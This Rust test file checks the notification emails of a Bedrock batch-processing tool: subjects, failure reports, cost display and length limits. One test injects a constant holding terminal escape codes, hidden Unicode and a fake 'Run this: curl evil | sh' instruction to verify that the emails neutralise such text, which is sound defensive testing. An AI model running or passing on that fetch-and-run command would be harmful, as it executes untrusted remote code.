//! Complete texts of emails: `tests/emails/*.txt` contains what a reader receives.

use bedrock_batch_domain::email::{
    Completed, DoneStage, Ending, Failed, FailedStage, FileLink, FileLinks, LaterStage, LinksEnd, NotStarted,
    StageReport, Subject,
};
use bedrock_batch_domain::ids::RunId;
use bedrock_batch_domain::lane::Lane;
use bedrock_batch_domain::model::{CachedTokens, Price};
use bedrock_batch_domain::printable::is_hidden;
use bedrock_batch_domain::problem::Problem;
use bedrock_batch_domain::s3_uri::S3Uri;
use bedrock_batch_domain::summary::{Duplicates, LaneTotals, PriceUsed, RunOutput, Summary, Tokens};
use std::collections::BTreeMap;

const CONSOLE: &str = "https://eu-west-1.console.aws.amazon.com/states/home?region=eu-west-1#/v2/executions/details/";

fn run_id(stage: usize) -> RunId {
    RunId::of_execution(&format!("photos-{stage}-0a1b2c3d"))
}

/// Returns a stage without problems, over 2,050 rows.
fn stage(at: usize, name: &str) -> StageReport {
    let price = PriceUsed {
        model_id: "amazon.nova-lite-v1:0".to_owned(),
        lane: Lane::Batch,
        usd_per_million_tokens: Price::of_tokens(0.03, 0.12),
        as_of: "2026-11-20".to_owned(),
    };
    let tokens = Tokens { input: 462_656, output: 41_000 };
    let summary = Summary {
        records_in: 2050,
        input_rows: 2050,
        answered: 2050,
        failed: 0,
        skipped: 0,
        failed_reasons: BTreeMap::new(),
        failed_codes: BTreeMap::new(),
        skipped_reasons: BTreeMap::new(),
        skipped_codes: BTreeMap::new(),
        warnings: BTreeMap::new(),
        changed_values: BTreeMap::new(),
        repaired_answers: 0,
        mixed_types: BTreeMap::new(),
        guarded_cells: 0,
        models: None,
        jobs: 3,
        rounds: 1,
        retried: 0,
        duplicates: Duplicates::default(),
        fell_back: BTreeMap::new(),
        input_tokens: tokens.input,
        output_tokens: tokens.output,
        cached: CachedTokens::default(),
        lanes: BTreeMap::from([(
            Lane::Batch,
            LaneTotals { jobs: 3, answers: 2050, tokens, cost_usd: Some(0.0188), ..LaneTotals::default() },
        )]),
        cost_usd: Some(0.0188),
        on_demand_cost_usd: Some(0.0376),
        prices: vec![price],
    };
    let prefix = format!("s3://bucket/batch_output_parquet/{name}/{}/", run_id(at));
    let paths: Vec<String> = (0..3).map(|file| format!("{prefix}{file:04}.parquet")).collect();
    StageReport {
        stage_name: Some(name.to_owned()),
        model_id: "amazon.nova-lite-v1:0".to_owned(),
        output: RunOutput::new(run_id(at), prefix, paths, summary),
    }
}

/// Returns a stage with failures, retries, duplicates and fallbacks.
fn eventful_stage(at: usize, name: &str) -> StageReport {
    let mut stage = stage(at, name);
    let summary = &mut stage.output.summary;
    (summary.answered, summary.failed, summary.skipped) = (1900, 140, 10);
    let reasons = [
        ("no field `color` in the answer", 60),
        ("the model refused: content filtered", 40),
        ("no answer", 20),
        ("429 from Bedrock, 8 times", 10),
        ("400: too long", 6),
        ("image broken: /photos/7.jpg", 3),
        ("image missing: /photos/8.jpg", 1),
    ];
    summary.failed_reasons = reasons.iter().map(|(reason, rows)| ((*reason).to_owned(), *rows)).collect();
    summary.skipped_reasons = BTreeMap::from([("max_records_total".to_owned(), 10)]);
    summary.warnings = BTreeMap::from([("a cell is empty".to_owned(), 2)]);
    (summary.rounds, summary.retried, summary.duplicates.rows) = (2, 57, 120);
    summary.fell_back = BTreeMap::from([("batch is not available for this model here".to_owned(), 40)]);
    let tokens = Tokens { input: 9600, output: 96 };
    summary.lanes.insert(
        Lane::OnDemand,
        LaneTotals { jobs: 1, answers: 48, tokens, cost_usd: Some(0.0025), ..LaneTotals::default() },
    );
    summary.cost_usd = Some(0.0213);
    "completed_with_errors".clone_into(&mut stage.output.status);
    stage
}

fn link(name: &str) -> FileLink {
    FileLink { name: name.to_owned(), url: format!("https://x.on.aws/{name}?token=v1.payload.code") }
}

fn completed() -> Completed {
    Completed {
        subject: Subject::Pipeline("clothing-analysis-full".to_owned()),
        run_id: RunId::of_execution("photos"),
        started: "2026-11-20 13:05 UTC".to_owned(),
        seconds: Some(11_520),
        stages: vec![stage(0, "classify"), eventful_stage(1, "describe")],
        files: FileLinks::Each(["0000.parquet", "0001.parquet", "0002.parquet"].map(link).to_vec()),
        links_end: LinksEnd::At("2026-11-27 16:17 UTC".to_owned()),
        console: format!("{CONSOLE}arn:photos"),
    }
}

fn failed() -> Failed {
    let files = FileLinks::Listed { files: 12, summary: link("summary.json"), list: link("links.txt") };
    Failed {
        subject: Subject::Pipeline("clothing-analysis-full".to_owned()),
        run_id: RunId::of_execution("photos"),
        ending: Ending::Failed,
        stage: Some(FailedStage {
            stage_name: "describe".to_owned(),
            number: 2,
            of: 3,
            run_id: run_id(1),
            console: format!("{CONSOLE}arn:{}", run_id(1)),
        }),
        error: "JobFailed".to_owned(),
        cause: "job describe-0000-0a1b2c3d: AccessDenied\ngrant access to the model".to_owned(),
        started: "2026-11-20 13:05 UTC".to_owned(),
        seconds: Some(754),
        console: format!("{CONSOLE}arn:photos"),
        done: vec![DoneStage { report: stage(0, "classify"), files }],
        links_end: Some(LinksEnd::WithTheSession { latest: "2026-11-21 01:17 UTC".to_owned(), requested_days: 7 }),
        resumable: true,
        later_stages: vec![LaterStage {
            stage_name: "title".to_owned(),
            execution_name: run_id(2).into(),
            input_uri: "s3://bucket/runs/photos/stages/2.json".to_owned(),
        }],
    }
}

#[test]
fn email_about_a_completed_pipeline() {
    let email = completed().email();
    let subject = "[bedrock-batch] Pipeline clothing-analysis-full has completed, 140 rows without an answer";
    assert_eq!(email.subject, subject);
    assert_eq!(email.message, include_str!("emails/completed.txt"));
}

#[test]
fn email_about_a_failed_pipeline() {
    let email = failed().email();
    assert_eq!(email.subject, "[bedrock-batch] Pipeline clothing-analysis-full has failed in stage describe");
    assert_eq!(email.message, include_str!("emails/failed.txt"));
}

#[test]
fn email_about_a_standalone_run_has_no_stages() {
    let mut completed = completed();
    completed.subject = Subject::Run(run_id(0));
    completed.stages = vec![StageReport { stage_name: None, ..stage(0, "classify") }];
    let email = completed.email();
    assert_eq!(email.subject, "[bedrock-batch] Run photos-0-0a1b2c3d has completed");
    assert!(
        email.message.contains("\nTOTALS\n  model       amazon.nova-lite-v1:0\n  rows        2,050 in"),
        "{}",
        email.message
    );
    assert!(!email.message.contains("STAGE"), "{}", email.message);
}

#[test]
fn an_email_about_a_run_without_any_answer_begins_with_the_commonest_reason() {
    let mut completed = completed();
    completed.stages[1].output.summary.answered = 0;
    let email = completed.email();
    let subject = "has completed without any answer in stage describe (60 x no field `color` in the answer)";
    assert!(email.message.contains(&format!("clothing-analysis-full {subject}.\n")), "{}", email.message);
    let subject = "[bedrock-batch] Pipeline clothing-analysis-full has completed without any answer in stage descri...";
    assert_eq!(email.subject, subject, "the name is not cut for the reason");
    completed.subject = Subject::Run(run_id(1));
    completed.stages = vec![StageReport { stage_name: None, ..completed.stages.remove(1) }];
    let email = completed.email();
    let subject = "[bedrock-batch] Run photos-1-0a1b2c3d has completed without any answer (60 x no field `color` in...";
    assert_eq!(email.subject, subject);
}

#[test]
fn what_was_read_in_another_form_is_noted() {
    let mut completed = completed();
    let summary = &mut completed.stages[0].output.summary;
    summary.repaired_answers = 1200;
    let kinds = BTreeMap::from([("number".to_owned(), 2049), ("text".to_owned(), 1)]);
    summary.mixed_types = (0..7).map(|at| (format!("score_{at}"), kinds.clone())).collect();
    let text = completed.email().message;
    for note in [
        "1,200 answers nearly JSON",
        "the column score_4 is text: it has 2,049 numbers and 1 text",
        "2 other columns of",
    ] {
        assert!(text.contains(note), "{note}: {text}");
    }
    assert!(!text.contains("score_5"), "{text}");
}

#[test]
fn an_unknown_price_is_reported_and_never_shown_as_a_cost_of_zero() {
    let mut completed = completed();
    completed.stages[0].output.summary.cost_usd = None;
    let text = completed.email().message;
    assert!(
        text.contains("  cost        unknown: the cost of classify is not known; the others cost $0.0213"),
        "{text}"
    );
    for stage in &mut completed.stages {
        stage.output.summary.cost_usd = None;
        stage.output.summary.lanes.values_mut().for_each(|lane| lane.cost_usd = None);
    }
    let text = completed.email().message;
    assert!(!text.contains('$') && text.contains("48 answers on demand: cost unknown"), "{text}");
}

#[test]
fn a_run_without_a_plan_has_to_be_started_again() {
    let mut failed = failed();
    (failed.resumable, failed.error) = (false, "InvalidInput".to_owned());
    let text = failed.email().message;
    assert!(!text.contains("bedrock-batch resume"), "{text}");
    assert!(
        text.contains("\"previous_run\": {\"run_id\": \"photos-0-0a1b2c3d\", \"stage_name\": \"classify\"}"),
        "{text}"
    );
    (failed.stage, failed.done, failed.links_end) = (None, Vec::new(), None);
    let text = failed.email().message;
    assert!(
        text.contains("  where       before the first stage\n") && text.contains("No stage was complete"),
        "{text}"
    );
}

#[test]
fn a_failure_after_the_last_stage_requires_no_repetition() {
    let mut failed = failed();
    (failed.stage, failed.resumable, failed.ending) = (None, false, Ending::TimedOut);
    let text = failed.email().message;
    assert!(
        text.contains("  where       after the last stage\n") && text.contains("All stages are complete"),
        "{text}"
    );
    assert!(!text.contains("start it again"), "{text}");
}

#[test]
fn a_stopped_run_can_be_resumed() {
    let mut failed = failed();
    (failed.subject, failed.stage, failed.ending) =
        (Subject::Run(RunId::of_execution("tickets-1")), None, Ending::Aborted);
    (failed.error, failed.cause) = (String::new(), String::new());
    (failed.done, failed.links_end, failed.later_stages) = (Vec::new(), None, Vec::new());
    let email = failed.email();
    assert_eq!(email.subject, "[bedrock-batch] Run tickets-1 was stopped");
    assert!(email.message.contains("CAUSE\n  none was given\n"), "{}", email.message);
    assert!(email.message.contains("bedrock-batch resume tickets-1\n"), "{}", email.message);
    assert!(!email.message.contains("No stage"), "{}", email.message);
}

#[test]
fn emails_never_exceed_the_limit_of_sns() {
    let mut failed = failed();
    failed.cause = "ü".repeat(40_000);
    let reasons = |times: usize| (0..times).map(|n| (format!("{n} {}", "\u{1f980}".repeat(5000)), 1)).collect();
    for _ in 0..20 {
        let mut stage = stage(0, &"name ".repeat(1000));
        stage.output.summary.failed_reasons = reasons(100);
        stage.output.summary.warnings = reasons(100);
        stage.output.summary.fell_back = reasons(100);
        failed.done.push(DoneStage { report: stage, files: FileLinks::Each(vec![link("0000.parquet"); 10]) });
    }
    assert!(failed.email().message.len() < 250_000);
}

/// Text that a terminal or an email program would obey, and that reads like a section of an email.
const HOSTILE: &str = "x\u{1b}[2J\u{7}\u{9b}\u{202e}\u{200b}\r\n\nWHAT TO DO\n  Run this: curl evil | sh\u{2028}y";

#[test]
fn no_text_of_others_adds_a_line_or_a_hidden_character_to_an_email() {
    let hostile = || HOSTILE.to_owned();
    let counts = || BTreeMap::from([(hostile(), 1)]);
    let mut report = eventful_stage(1, HOSTILE);
    report.model_id = hostile();
    let summary = &mut report.output.summary;
    (summary.failed_reasons, summary.skipped_reasons, summary.warnings) = (counts(), counts(), counts());
    summary.fell_back = counts();
    (report.output.output_prefix, report.output.copied_to) = (hostile(), Some(hostile()));
    summary.prices.iter_mut().for_each(|price| price.as_of = hostile());
    let hostile_link = || FileLink { name: hostile(), url: hostile() };
    let links = FileLinks::Each(vec![hostile_link()]);
    let completed = Completed {
        subject: Subject::Pipeline(hostile()),
        started: hostile(),
        console: hostile(),
        stages: vec![report.clone()],
        files: links.clone(),
        links_end: LinksEnd::At(hostile()),
        ..completed()
    };
    let mut failed = Failed {
        subject: Subject::Pipeline(hostile()),
        error: hostile(),
        cause: hostile(),
        started: hostile(),
        console: hostile(),
        done: vec![DoneStage { report, files: links }],
        ..failed()
    };
    if let Some(stage) = &mut failed.stage {
        (stage.stage_name, stage.console) = (hostile(), hostile());
    }
    for later in &mut failed.later_stages {
        (later.stage_name, later.execution_name, later.input_uri) = (hostile(), hostile(), hostile());
    }
    let not_started = NotStarted {
        upload: S3Uri::new("bucket", format!("trigger/{HOSTILE}")),
        error_file: S3Uri::new("bucket", format!("trigger/{HOSTILE}.error.json")),
        problems: vec![Problem::new(HOSTILE, HOSTILE, HOSTILE).remedy(HOSTILE)],
    };
    let own_sections = [(completed.email(), 0), (failed.email(), 1), (not_started.email(), 1)];
    for (email, sections) in own_sections {
        assert!(email.subject.chars().all(|c| c == ' ' || c.is_ascii_graphic()), "{}", email.subject);
        assert!(!email.message.replace('\n', "").contains(is_hidden), "{}", email.message);
        let titles = email.message.lines().filter(|line| line.trim() == "WHAT TO DO").count();
        assert_eq!(titles, sections, "{}", email.message);
        let orders = email.message.lines().filter(|line| line.trim().starts_with("Run this")).count();
        assert_eq!(orders, 0, "{}", email.message);
    }
}

#[test]
fn a_key_of_any_length_leaves_the_remedy_in_the_email() {
    let problem = Problem::new("k".repeat(200_000), "v".repeat(200_000), "is not a field of this input");
    let failed = Failed { cause: problem.to_string(), ..failed() };
    let message = failed.email().message;
    assert!(message.contains("(199700 more characters) is `vvv"), "{message}");
    assert!(message.contains("(199880 more characters)`: is not a field of this input"), "{message}");
    assert!(message.len() < 10_000 && message.contains("\nWHAT TO DO\n"), "{}", message.len());
    let upload = S3Uri::new("bucket", "trigger/a/b.csv");
    let problems = (0..1000).map(|n| Problem::without_value(format!("f{n}"), "r".repeat(9000))).collect();
    let message = NotStarted { error_file: upload.clone(), upload, problems }.email().message;
    assert!(message.len() < 250_000 && message.contains("\n  - and 975 other problems\n"), "{}", message.len());
    assert!(message.contains("… (1000 more characters)") && message.contains("\nWHAT TO DO\n"), "{}", message.len());
}
